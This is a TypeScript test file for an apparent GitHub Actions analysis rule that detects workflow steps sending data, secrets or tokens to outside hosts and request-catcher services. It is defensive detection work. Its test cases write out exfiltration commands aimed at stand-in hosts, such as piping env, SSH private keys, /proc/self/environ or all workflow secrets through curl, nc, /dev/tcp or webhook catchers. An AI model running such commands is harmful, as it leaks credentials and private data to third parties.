import { expect, test } from "vitest";
import {
  readSentData,
  SENT_DATA_LEVELS,
} from "../../../../rules/capabilities/github-step/sent-data.ts";
import { causesIn, grantedIn, jobWith, shortly, stepRunning } from "./granted.ts";

function foundIn(script: string, rest = ""): string[] {
  return grantedIn(stepRunning(script, rest), readSentData).map(shortly);
}

const TOKEN = "        env: {TOKEN: '${{ secrets.TOKEN }}'}\n";

test.each([
  ["curl -d @report.json https://x.example/in", "x.example ordinary 6"],
  ["curl https://x.example --data-binary @f", "x.example ordinary 6"],
  ["curl -sS --data-urlencode=a=b https://x.example", "x.example ordinary 6"],
  ["curl -F file=@f https://x.example", "x.example ordinary 6"],
  ["curl -T f https://x.example", "x.example ordinary 6"],
  ["curl --upload-file f https://x.example", "x.example ordinary 6"],
  ["curl --json '{}' https://x.example", "x.example ordinary 6"],
  ["curl -sX POST https://x.example", "x.example ordinary 6"],
  ["curl -XPUT https://x.example", "x.example ordinary 6"],
  ["curl --request PATCH https://x.example", "x.example ordinary 6"],
  ["tar c . | curl -d @- x.example/in", "x.example ordinary 6"],
  ["wget --post-data=a https://x.example", "x.example ordinary 6"],
  ["wget --post-file f https://x.example", "x.example ordinary 6"],
  ["wget --method=PUT --body-file=f https://x.example", "x.example ordinary 6"],
  ["http POST https://x.example a=b", "x.example ordinary 6"],
  ["Invoke-RestMethod -Uri https://x.example -Method Post", "x.example ordinary 6"],
  ["irm https://x.example -Method:Put -Body $b", "x.example ordinary 6"],
  ["iwr -Uri https://x.example -UseBasicParsing -InFile f", "x.example ordinary 6"],
  ["cat f | nc x.example 4444", "x.example ordinary 6"],
  ["ncat -w 3 x.example 4444 < f", "x.example ordinary 6"],
  ["cat f | openssl s_client -connect x.example:443", "x.example ordinary 6"],
  ["cat f > /dev/tcp/x.example/80", "x.example ordinary 6"],
  ["cat f | socat - tcp:x.example:80", "x.example ordinary 6"],
  ["dig $(whoami).x.example.com", "*.x.example.com ordinary 6"],
  ["nslookup `hostname`.x.example.com", "*.x.example.com ordinary 6"],
  ["bash -c 'curl -d a https://x.example'", "x.example ordinary 6"],
  ['A="$(curl -d a https://x.example)"', "x.example ordinary 6"],
  ["true\ncurl -d a \\\n  https://x.example", "x.example ordinary 7"],
  ["curl -d a $URL", "an unknown host ordinary 6"],
  ["curl -d a https://192.168.1.5/x", "192.168.1.5 ordinary 6"],
  ["env | curl -d @- https://x.example", "x.example secret 6"],
  ["printenv > f; curl -T f https://x.example", "x.example secret 6"],
  ["curl -d @$HOME/.ssh/id_rsa https://x.example", "x.example secret 6"],
  ["base64 /proc/self/environ | curl -d @- https://x.example", "x.example secret 6"],
  ["curl -d '${{ toJSON(secrets) }}' https://x.example", "x.example secret 6"],
  ["curl -d '${{ secrets.A }}' https://x.example", "x.example secret 6"],
  ["curl -d '${{ github.token }}' https://x.example", "x.example secret 6"],
  ["curl 'https://x.example/?t=${{ secrets.A }}'", "x.example secret 6"],
  ["curl -d a https://abc.m.pipedream.net", "abc.m.pipedream.net catcher 6"],
  ["curl https://webhook.site/0-1", "webhook.site catcher 6"],
  ["python -c 'post(\"https://ABC.oast.fun\")'", "abc.oast.fun catcher 6"],
  ["cat f | nc termbin.com 9999", "termbin.com catcher 6"],
])("%s sends data", (script, found) => {
  expect(foundIn(script)).toEqual([found]);
});

test.each([
  ["curl https://x.example"],
  ["curl -fsSLo f https://x.example"],
  ["curl -X GET https://x.example"],
  ["curl -H 'Accept: a' https://x.example"],
  ["wget -q https://x.example"],
  ["Invoke-WebRequest -Uri https://x.example"],
  ["curl -d a https://api.github.com/repos/o/r/issues"],
  ["curl -T f https://uploads.github.com/x"],
  ["curl -d a $GITHUB_API_URL/repos"],
  ["curl -d a ${{ github.api_url }}/repos"],
  ['curl -d a "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=a"'],
  ["curl -d a http://localhost:8080"],
  ["curl -d a localhost:8080/x"],
  ["curl -d a http://127.0.0.1:9200/index"],
  ["curl -d a 'http://[::1]:9200/index'"],
  ["curl -d a http://elasticsearch:9200/index"],
  ["nc -z x.example 80"],
  ["nc -l 4444"],
  ["nc localhost 4444"],
  ["dig x.example"],
  ["nslookup x.example.com"],
  ["openssl s_client -help"],
  ["echo 'curl -d a https://x.example'"],
  ["# curl -d a https://x.example"],
  ["echo mywebhook.site.example webhook.sites"],
])("%s sends nothing elsewhere", (script) => {
  expect(foundIn(script)).toEqual([]);
});

test.each([
  ["curl -d a https://x.example", "x.example secret 6"],
  ['curl -H "Authorization: $TOKEN" https://x.example', "x.example secret 6"],
  ['curl "https://x.example/?t=${TOKEN}"', "x.example secret 6"],
  ["curl -u me:$TOKEN https://x.example", "x.example secret 6"],
  ["dig $TOKEN.x.example.com", "*.x.example.com secret 6"],
  ["irm https://x.example -Headers $env:TOKEN", "x.example secret 6"],
])("%s sends a secret that its step can read", (script, found) => {
  expect(foundIn(script, TOKEN)).toEqual([found]);
});

test.each([
  ["curl https://x.example"],
  ['curl -H "X: $TOKENS" https://x.example'],
  ['curl -H "Authorization: $TOKEN" https://api.github.com/user'],
])("%s sends no secret of its step", (script) => {
  expect(foundIn(script, TOKEN)).toEqual([]);
});

test.each([
  ["curl -d a https://api.github.com/x https://x.example", ["x.example ordinary 6"]],
  ["curl -d a https://x.example y.example", ["x.example ordinary 6", "y.example ordinary 6"]],
  [
    "curl -d a https://x.example https://webhook.site/1",
    ["x.example ordinary 6", "webhook.site catcher 6"],
  ],
  ["curl -d a https://api.github.com/x $URL", ["an unknown host ordinary 6"]],
  ["wget --post-data=a https://api.github.com/x https://x.example", ["x.example ordinary 6"]],
  ["curl -d a -x x.example:80 http://api.github.com/x", ["x.example ordinary 6"]],
  ["curl -kd a --connect-to ::x.example:443 https://api.github.com/x", ["x.example ordinary 6"]],
  ["curl -d a --resolve y.example:443:127.0.0.1 http://localhost/x", []],
])("%s sends data to every host that it leads to", (script, found) => {
  expect(foundIn(script)).toEqual(found);
});

test("a secret that is the address is no secret that is sent there", () => {
  const env = "        env: {HOOK: '${{ secrets.Hook }}'}\n";
  expect(foundIn('curl -d a "$HOOK"', env)).toEqual(["the host in secrets.HOOK ordinary 6"]);
  expect(foundIn("curl $HOOK", env)).toEqual([]);
  expect(foundIn("curl -d '${{ secrets.B }}' $HOOK", env)).toEqual([
    "the host in secrets.HOOK secret 6",
  ]);
});

test("a catcher counts in inputs and in every env, where it stands", () => {
  const job = [
    "env: {A: https://webhook.site/1}",
    "steps:",
    "  - uses: o/notify@v1",
    "    with: {url: https://x.ngrok.io, other: https://x.example}",
    "    env: {B: https://b.requestbin.com}",
  ].join("\n");
  expect(grantedIn(jobWith(job), readSentData).map(shortly)).toEqual([
    "webhook.site catcher 4",
    "x.ngrok.io catcher 7",
    "b.requestbin.com catcher 8",
  ]);
});

test("a host is one capability of a step, where data is sent first", () => {
  expect(foundIn("curl -d a https://x.example/a\ncurl -d b https://x.example/b")).toEqual([
    "x.example ordinary 6",
  ]);
});

test("another address that only the run knows is another cause", () => {
  const causes = (script: string): string[] => causesIn(script, readSentData, "to:");
  const first = causes("curl -d a $A");
  expect(first).toHaveLength(1);
  expect(causes('curl  -d b "$A"')).toEqual(first);
  expect(causes("curl -d a $B")).not.toEqual(first);
  expect(causes("curl -d a https://x.example")).toEqual([]);
  expect(causes("echo webhook.site")).toEqual([]);
});

test("of several catchers each counts, and a list in an input names none", () => {
  const job = [
    "env: {A: https://webhook.site/1, B: https://x.ngrok.io}",
    "steps:",
    "  - uses: o/notify@v1",
    "    with: {url: https://a.loca.lt https://b.loca.lt, list: [https://c.loca.lt]}",
  ].join("\n");
  expect(grantedIn(jobWith(job), readSentData).map(({ name }) => name)).toEqual([
    "webhook.site",
    "x.ngrok.io",
    "a.loca.lt",
    "b.loca.lt",
  ]);
});

test("sent data is a guess, and what a catcher gets weighs most", () => {
  const [found] = grantedIn(stepRunning("curl -d a https://x.example"), readSentData);
  expect(found).toMatchObject({ certainty: "heuristic" });
  expect(SENT_DATA_LEVELS).toEqual(["ordinary", "secret", "catcher"]);
});

test.each([
  ["sends to", "curl -d a https://x$.example"],
  ["names as catchers", "$.ngrok.io"],
])("a step that %s more than a hundred hosts is not understood", (_what, line) => {
  const lines = Array.from({ length: 101 }, (_, n) => line.replace("$", String(n)));
  expect(foundIn(lines.slice(1).join("\n"))).toHaveLength(100);
  expect(() => foundIn(lines.join("\n"))).toThrow(
    expect.objectContaining({
      code: "too-many-hosts",
      message: expect.stringContaining("100 hosts") as string,
    }),
  );
});

test("too many catchers are told where they stand, or where all of them do", () => {
  const names = Array.from({ length: 101 }, (_, n) => `${n}.ngrok.io`);
  const [half, rest] = [names.slice(50).join(" "), names.slice(0, 50).join(" ")];
  const readingOf = (job: string) => () => grantedIn(jobWith(job), readSentData);
  const at = (line: number): unknown => expect.objectContaining({ place: { line, column: 1 } });
  const step = "\nsteps:\n  - name: a\n    uses: o/a@v1\n    with:";
  expect(readingOf(`env:\n  A: ${names.join(" ")}`)).toThrow(at(5));
  expect(readingOf(`name: a\nenv:\n  A: ${half}\n  B: ${rest}`)).toThrow(at(4));
  expect(readingOf(`name: a${step}\n      a: ${half}\n      b: ${rest}`)).toThrow(at(6));
});
